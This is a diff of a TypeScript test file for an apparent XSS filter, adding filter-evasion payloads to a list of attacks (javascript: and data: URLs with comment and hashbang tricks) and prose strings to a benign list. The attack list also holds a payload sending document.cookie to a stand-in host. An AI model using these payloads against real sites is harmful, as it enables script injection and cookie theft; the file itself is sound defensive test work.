@@ -84,8 +84,16 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['quoted handler value opening with a tab', "' onmouseover='\talert?.(1)"],
 ];
 
-/** Read in short values only: a long value finds a breakout from the call it makes, and these make none there. */
+/**
+ * Not read after the padding of the long-value test: a long value finds a breakout from the call it makes, and
+ * some make none there; a URL is one at the value's start or after a delimiter, and that padding ends in `!\n`.
+ */
 const SHORT_ONLY_ATTACKS: ReadonlyArray<readonly [string, string]> = [
+  // A second reviewer's evasions of this round's rules (2026-12-07): they ran in Chromium 156.
+  ['a CSV data: URL, which a script element runs', 'data:text/csv,print()'],
+  ['javascript: with an HTML-like comment, then a new line', 'javascript:-->a b%0Aprint()'],
+  ['javascript: with a hashbang comment', 'javascript:#!a b\u2028print()'],
+  ['javascript: with a using declaration', 'javascript:{using a=print()}'],
   ['onerror given a sink in a block, then a throw', "';{onerror=alert}throw 1//"],
   ["an array literal's method given a sink", "'-[1].find(alert)-'"],
   ['the location assigned, stealing the cookie', "\";location='//x.test/?'+document.cookie//"],
@@ -113,10 +121,16 @@ const BENIGN = [
   '<script-loader>',
   '<link-preview></link-preview>',
   '<iframe-wrapper src="/embed"></iframe-wrapper>',
-  'data:text/csv;charset=utf-8,a,b,c',
   // Quotes, then an operator spaced as prose spaces it: a breakout glues its name to `/ % ^ < >`.
   "'50'% off (today)",
   'He said "hi" < then(1)',
+  // Prose, paths, patterns and passwords after a quote and an operator: a breakout there calls a sink.
+  "She said 'yes'/no(maybe)",
+  'grep "^Error(s)" log.txt',
+  "regex '^user(name)?$'",
+  "GET '/Products(1)'",
+  ']"^EZfT3A`a',
+  '"Acme"; location=Berlin',
   // A handler named in prose with a quoted value that is no code.
   'the onload=" attribute"',
   'The script is written from right to left',
